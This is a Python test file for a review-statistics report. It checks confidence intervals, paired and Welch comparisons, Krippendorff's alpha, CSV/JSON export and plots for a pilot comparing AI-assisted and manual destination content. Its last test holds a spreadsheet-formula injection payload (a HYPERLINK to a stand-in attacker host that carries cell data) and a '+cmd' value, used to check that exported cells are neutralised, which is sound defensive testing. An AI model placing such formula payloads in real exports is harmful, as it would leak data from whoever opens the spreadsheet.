"""The review statistics, checked against numbers worked out by hand.

The pilot fixture: 30 destinations x 3 reviewers (ana, ben, chloe). Each destination has one AI
variant (destinations 1-20 reuse a library photo, 21-30 use a generated image) and one manual
variant. Every variant's three ratings follow one of four patterns:

    pattern   ratings   mean   approvals (approved = rating >= 4)
    A         4 4 4     4      3
    B         3 4 5     4      2
    C         3 3 3     3      0
    D         5 5 5     5      3

    AI, reused     d1-12 A, d13-16 B, d17-20 C  -> destination means: 16 x 4, 4 x 3
    AI, generated  d21-26 A, d27-28 B, d29-30 C -> 8 x 4, 2 x 3
    manual         d1-24 A, d25-27 B, d28-30 D  -> 27 x 4, 3 x 5

Means over destination means (t quantiles from a t table: t(.975; 29) = 2.045230,
t(.975; 19) = 2.093024, t(.975; 9) = 2.262157, t(.975; 4) = 2.776445):

    AI-assisted  mean (24*4 + 6*3)/30 = 3.8; sum of squares 24*0.2^2 + 6*0.8^2 = 4.8
                 s = sqrt(4.8/29) = 0.406838; half-width 2.045230 * s / sqrt(30) = 0.151916
    reused       mean 3.8; SS 16*0.04 + 4*0.64 = 3.2; s = sqrt(3.2/19); hw 2.093024*s/sqrt(20) = 0.192069
    generated    mean 3.8; SS 8*0.04 + 2*0.64 = 1.6; s = sqrt(1.6/9); hw 2.262157*s/sqrt(10) = 0.301621
    manual       mean (27*4 + 3*5)/30 = 4.1; SS 27*0.01 + 3*0.81 = 2.7; hw 2.045230*sqrt(2.7/29)/sqrt(30)
                 = 0.113937

AI minus manual, paired by destination: d = 0 for d1-16 and d21-27 (23 destinations), -1 for
d17-20 and d28 (5), -2 for d29-30 (2). Mean -9/30 = -0.3; SS = sum d^2 - 30 * 0.09 = 13 - 2.7 =
10.3; half-width 2.045230 * sqrt(10.3/29) / sqrt(30) = 0.222536.

Krippendorff's alpha (ordinal), 60 units of 3 values: pattern A adds 3 to o_44 (6 ordered pairs
/ (3 - 1)), C adds 3 to o_33, D 3 to o_55, B adds 1/2 to each of o_34, o_43, o_35, o_53, o_45,
o_54. 42 A, 6 C, 3 D, 9 B units give o_33 = 18, o_44 = 126, o_55 = 9, off-diagonals 4.5 each;
n_3 = 27, n_4 = 135, n_5 = 18, n = 180. Ordinal differences: d_34 = ((27 + 135)/2)^2 = 6561,
d_45 = ((135 + 18)/2)^2 = 5852.25, d_35 = (180 - (27 + 18)/2)^2 = 24806.25.
sum o*d = 2 * 4.5 * (6561 + 24806.25 + 5852.25) = 334975.5;
sum n_c n_k d = 2 * (27*135*6561 + 27*18*24806.25 + 135*18*5852.25) = 100383300;
alpha = 1 - 179 * 334975.5 / 100383300 = 0.402683.

Time: every rating takes 60 s of review, so 3 min per destination and arm; a reused variant
took 120 s of machine time, a generated one 300 s: (20*120 + 10*300)/30 = 180 s = 3 min per
destination. AI-assisted production: 3 + 3 = 6 min per destination. Manual hours: 4.0 for
d1-20, 5.5 for d21-30: 4.5 h = 270 min per destination.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest
from PIL import Image

from generation.report import Rating, build_report, krippendorff_alpha, plot, save_plot, to_csv
from indexer.errors import ConfigError
from tests.conftest import REPO

A, B, C, D = (4, 4, 4), (3, 4, 5), (3, 3, 3), (5, 5, 5)
REVIEWERS = ("ana", "ben", "chloe")


def ai_pattern(d: int) -> tuple[int, int, int]:
    if d <= 20:
        return A if d <= 12 else B if d <= 16 else C
    return A if d <= 26 else B if d <= 28 else C


def manual_pattern(d: int) -> tuple[int, int, int]:
    return A if d <= 24 else B if d <= 27 else D


def pilot_ratings() -> list[Rating]:
    ratings = []
    for d in range(1, 31):
        arm = "ai_reused" if d <= 20 else "ai_generated"
        machine = 120.0 if arm == "ai_reused" else 300.0
        for variant, arm_, pattern, seconds in ((f"ai-{d}", arm, ai_pattern(d), machine),
                                                (f"manual-{d}", "manual", manual_pattern(d), 0.0)):
            for reviewer, value in zip(REVIEWERS, pattern):
                ratings.append(Rating(variant, f"dest-{d}", arm_, reviewer, value, value >= 4,
                                      reviewer_seconds=60.0, machine_seconds=seconds))
    return ratings


PILOT_HOURS = {f"dest-{d}": 4.0 if d <= 20 else 5.5 for d in range(1, 31)}


@pytest.fixture(scope="module")
def pilot():
    return build_report(pilot_ratings(), PILOT_HOURS)


@pytest.mark.parametrize("arm, mean, half, approval, machine", [
    ("ai_assisted", 3.8, 0.151916, 66 / 90, 3.0),
    ("ai_reused", 3.8, 0.192069, 44 / 60, 2.0),
    ("ai_generated", 3.8, 0.301621, 22 / 30, 5.0),
    ("manual", 4.1, 0.113937, 87 / 90, None),
])
def test_pilot_arm_figures(pilot, arm, mean, half, approval, machine):
    summary = pilot.arms[arm]
    assert summary.rating.mean == pytest.approx(mean, abs=1e-9)
    assert summary.rating.low == pytest.approx(mean - half, abs=1e-5)
    assert summary.rating.high == pytest.approx(mean + half, abs=1e-5)
    assert summary.approval_rate == pytest.approx(approval)
    assert summary.reviewer_minutes_per_destination == pytest.approx(3.0)
    assert summary.machine_minutes_per_destination == (None if machine is None else pytest.approx(machine))
    destinations = {"ai_assisted": 30, "ai_reused": 20, "ai_generated": 10, "manual": 30}[arm]
    assert summary.destinations == summary.variants == summary.rating.n == destinations
    assert summary.ratings == 3 * destinations


def test_pilot_comparison_agreement_share_and_time(pilot):
    difference = pilot.comparison.difference
    assert difference.mean == pytest.approx(-0.3)
    assert (difference.low, difference.high) == (pytest.approx(-0.522536, abs=1e-5),
                                                 pytest.approx(-0.077464, abs=1e-5))
    assert difference.n == 30 and pilot.comparison.method.startswith("paired")
    assert pilot.agreement.alpha == pytest.approx(0.402683, abs=1e-6)
    assert (pilot.agreement.units, pilot.agreement.values, pilot.agreement.metric) == (60, 180, "ordinal")
    assert (pilot.share_reused, pilot.share_generated) == (pytest.approx(2 / 3), pytest.approx(1 / 3))
    assert pilot.time.ai_assisted_minutes_per_destination == pytest.approx(6.0)
    assert pilot.time.manual_minutes_per_destination == pytest.approx(270.0)
    assert pilot.time.destinations_with_manual_hours == 30


def test_pilot_reviewers(pilot):
    """ana gives 4, 3, 3, 5 for patterns A, B, C, D; ben 4, 4, 3, 5; chloe 4, 5, 3, 5. Counting
    units (AI: 18 A, 6 B, 6 C; manual: 24 A, 3 B, 3 D): ana (108 + 120) / 60 = 3.8, ben
    (114 + 123) / 60 = 3.95, chloe (120 + 126) / 60 = 4.1. Approvals (>= 4): ana AI 18 (A) + manual
    27 (A, D) = 45; ben and chloe also approve B: AI 24 + manual 30 = 54 each."""
    assert list(pilot.reviewers) == ["ana", "ben", "chloe"]
    assert [pilot.reviewers[r].mean_rating for r in REVIEWERS] == [pytest.approx(3.8), pytest.approx(3.95),
                                                                   pytest.approx(4.1)]
    assert [pilot.reviewers[r].approval_rate for r in REVIEWERS] == [pytest.approx(45 / 60), pytest.approx(54 / 60),
                                                                     pytest.approx(54 / 60)]
    assert all(pilot.reviewers[r].ratings == 60 for r in REVIEWERS)


def test_pilot_exports_as_json_and_csv(pilot):
    data = json.loads(json.dumps(pilot.to_dict()))
    assert data["arms"]["manual"]["mean_rating"] == pytest.approx(4.1)
    assert data["arms"]["ai_assisted"]["ci95"][0] == pytest.approx(3.648084, abs=1e-5)
    assert data["comparison"]["ai_assisted_minus_manual"] == pytest.approx(-0.3)
    assert data["agreement"]["alpha"] == pytest.approx(0.402683, abs=1e-6)
    assert "destination" in data["methods"]["ci"]
    rows = list(csv.DictReader(io.StringIO(to_csv(pilot))))
    assert list(rows[0]) == ["section", "arm", "metric", "value", "ci_low", "ci_high", "n"]
    by_key = {(r["arm"], r["metric"]): r for r in rows}
    manual = by_key[("manual", "mean_rating")]
    assert float(manual["value"]) == pytest.approx(4.1) and manual["n"] == "30"
    assert float(manual["ci_high"]) == pytest.approx(4.213937, abs=1e-5)
    assert float(by_key[("", "krippendorff_alpha_ordinal")]["value"]) == pytest.approx(0.402683, abs=1e-6)
    assert float(by_key[("manual", "production_minutes_per_destination")]["value"]) == pytest.approx(270)
    assert by_key[("manual", "approval_rate")]["ci_low"] == ""
    assert float(by_key[("chloe", "mean_rating")]["value"]) == pytest.approx(4.1)
    assert data["reviewers"]["ben"]["mean_rating"] == pytest.approx(3.95)


def test_krippendorff_textbook_example():
    """Krippendorff (2011), "Computing Krippendorff's Alpha-Reliability", section C: 4 observers,
    12 units, values 1-5 with missing data. Published: nominal 0.743, ordinal 0.815, interval
    0.849 (also the "C" data of R's irr::kripp.alpha)."""
    units = [(1, 1, None, 1), (2, 2, 3, 2), (3, 3, 3, 3), (3, 3, 3, 3), (2, 2, 2, 2), (1, 2, 3, 4),
             (4, 4, 4, 4), (1, 1, 2, 1), (2, 2, 2, 2), (None, 5, 5, 5), (None, None, 1, 1), (None, None, 3, None)]
    assert krippendorff_alpha(units, "nominal") == pytest.approx(0.743, abs=5e-4)
    assert krippendorff_alpha(units, "ordinal") == pytest.approx(0.815, abs=5e-4)
    assert krippendorff_alpha(units, "interval") == pytest.approx(0.849, abs=5e-4)
    with pytest.raises(ConfigError, match="metric"):
        krippendorff_alpha(units, "circular")


def test_a_missing_rating_leaves_its_variant_in_with_two_values():
    """chloe did not rate ai-1 (pattern A): that unit has m = 2 and adds 2 / (2 - 1) = 2 to o_44
    instead of 3, so n_4 = 134, n = 179; d_34 = 80.5^2 = 6480.25, d_45 = 76^2 = 5776,
    d_35 = (179 - 22.5)^2 = 24492.25; sum o*d = 9 * (6480.25 + 24492.25 + 5776) = 330736.5;
    sum n n d = 2 * (27*134*6480.25 + 27*18*24492.25 + 134*18*5776) = 98560980;
    alpha = 1 - 178 * 330736.5 / 98560980 = 0.402694. Destination 1 still means 4."""
    ratings = [r for r in pilot_ratings() if not (r.variant_id == "ai-1" and r.reviewer == "chloe")]
    report = build_report(ratings, PILOT_HOURS)
    assert report.agreement.alpha == pytest.approx(0.402694, abs=1e-6)
    assert (report.agreement.units, report.agreement.values) == (60, 179)
    assert report.arms["ai_assisted"].rating.mean == pytest.approx(3.8)
    assert report.arms["ai_assisted"].ratings == 89


def test_one_reviewer_has_no_agreement_but_still_means():
    ratings = [r for r in pilot_ratings() if r.reviewer == "ana"]  # ana gave 4 or 3 (A, B, C) and 5 (D)
    report = build_report(ratings)
    assert report.agreement.alpha is None and report.agreement.units == 0
    assert "no variant has two ratings" in report.agreement.note
    # ana's AI ratings: A -> 4 (18 destinations), B -> 3 (6), C -> 3 (6): mean (72 + 36)/30 = 3.6
    assert report.arms["ai_assisted"].rating.mean == pytest.approx(3.6)
    assert report.time.manual_minutes_per_destination is None


def test_identical_ratings_have_undefined_agreement_and_a_zero_width_interval():
    ratings = [Rating(f"v{d}", f"d{d}", "ai_reused", who, 4, True) for d in range(5) for who in REVIEWERS]
    report = build_report(ratings)
    assert report.agreement.alpha is None and "same value" in report.agreement.note
    interval = report.arms["ai_reused"].rating
    assert (interval.mean, interval.low, interval.high) == (4.0, 4.0, 4.0)
    assert report.comparison is None and report.arms["ai_reused"].machine_minutes_per_destination == 0


def test_unpaired_destinations_use_welch():
    """AI at d1-3 rated 3, 4, 5; manual at d4-6 rated 2, 3, 4. Difference 4 - 3 = 1. Both variances
    are 1, so se = sqrt(1/3 + 1/3) = 0.816497 and Welch's df = (2/3)^2 / (2 * (1/3)^2 / 2) = 4;
    half-width 2.776445 * 0.816497 = 2.266958."""
    ratings = [Rating(f"ai{d}", f"d{d}", "ai_generated", "ana", d + 2, True) for d in (1, 2, 3)]
    ratings += [Rating(f"m{d}", f"d{d}", "manual", "ana", d - 2, False) for d in (4, 5, 6)]
    comparison = build_report(ratings).comparison
    assert comparison.method.startswith("Welch")
    assert comparison.difference.mean == pytest.approx(1.0)
    assert comparison.difference.low == pytest.approx(1 - 2.266958, abs=1e-5)
    assert comparison.difference.high == pytest.approx(1 + 2.266958, abs=1e-5)


def test_one_destination_has_no_interval_and_still_plots(tmp_path):
    report = build_report([Rating("v1", "d1", "manual", "ana", 3, False)])
    interval = report.arms["manual"].rating
    assert (interval.mean, interval.low, interval.high, interval.n) == (3.0, None, None, 1)
    png, svg = save_plot(report, tmp_path, "single")
    assert png.stat().st_size > 0 and svg.stat().st_size > 0


@pytest.mark.parametrize("kwargs, message", [
    ({"rating": 6}, "1 to 5"), ({"rating": 4.5}, "1 to 5"), ({"rating": True}, "1 to 5"),
    ({"arm": "robot"}, "arm"), ({"reviewer_seconds": -1.0}, "negative"),
])
def test_bad_records_are_config_errors(kwargs, message):
    fields = dict(variant_id="v", destination="d", arm="manual", reviewer="ana", rating=3, approved=True)
    with pytest.raises(ConfigError, match=message):
        Rating(**{**fields, **kwargs})


def test_inconsistent_data_is_a_config_error():
    with pytest.raises(ConfigError, match="no ratings"):
        build_report([])
    twice = [Rating("v", "d", "manual", "ana", 3, True), Rating("v", "d", "manual", "ana", 4, True)]
    with pytest.raises(ConfigError, match="twice"):
        build_report(twice)
    moved = [Rating("v", "d1", "manual", "ana", 3, True), Rating("v", "d2", "manual", "ben", 4, True)]
    with pytest.raises(ConfigError, match="different arm, destination"):
        build_report(moved)
    with pytest.raises(ConfigError, match="Manual hours"):
        build_report([Rating("v", "d", "manual", "ana", 3, True)], {"d": -2})


def test_plot_png_and_svg_show_every_arm(pilot, tmp_path):
    png, svg = save_plot(pilot, tmp_path)
    with Image.open(png) as image:
        assert image.size == (1560, 600)  # ratings and time side by side, 150 dpi
        colours = image.convert("RGB").getcolors(1 << 20)
    assert any(c[1] == (0x1F, 0x5F, 0xA8) for c in colours)  # the AI-assisted marker is drawn
    assert svg.read_text().lstrip().startswith("<?xml") and "<svg" in svg.read_text()
    ratings, time = plot(pilot).axes
    assert [t.get_text() for t in ratings.get_xticklabels()] == [
        "AI, reused photo\nn=20", "AI, generated image\nn=10", "AI-assisted (all)\nn=30", "Manual\nn=30"]
    # Bars: AI machine 3 + review 3 minutes, manual 270 minutes (4.5 h entered).
    assert [round(b.get_width(), 6) for b in time.patches] == [3.0, 3.0, 270.0]
    assert [t.get_text() for t in time.get_yticklabels()] == ["AI-assisted", "Manual"]


def test_plotting_leaves_matplotlib_global_state_alone():
    # No pyplot (it keeps global figures) and no backend chosen: a host application's own
    # matplotlib setup stays as it was. (matplotlib.get_backend() itself would import pyplot.)
    script = ("import matplotlib, sys; "
              "from generation.report import Rating, build_report, plot; "
              "plot(build_report([Rating('v', 'd', 'manual', 'a', 3, True)])); "
              "print('pyplot' if 'matplotlib.pyplot' in sys.modules else 'clean', "
              "matplotlib.rcParams._get_backend_or_none())")
    result = subprocess.run([sys.executable, "-c", script], cwd=REPO, capture_output=True, text=True, check=True)
    assert result.stdout.split() == ["clean", "None"]


def test_csv_cells_never_start_a_spreadsheet_formula():
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    ratings = [Rating("v1", "lisbon", "ai_reused", evil, 4, True), Rating("v2", "lisbon", "manual", "+cmd", 3, False)]
    rows = list(csv.DictReader(io.StringIO(to_csv(build_report(ratings)))))
    cells = [value for row in rows for value in row.values() if value]
    assert "'" + evil in cells and "'+cmd" in cells
    assert not any(value[0] in "=+@" for value in cells)
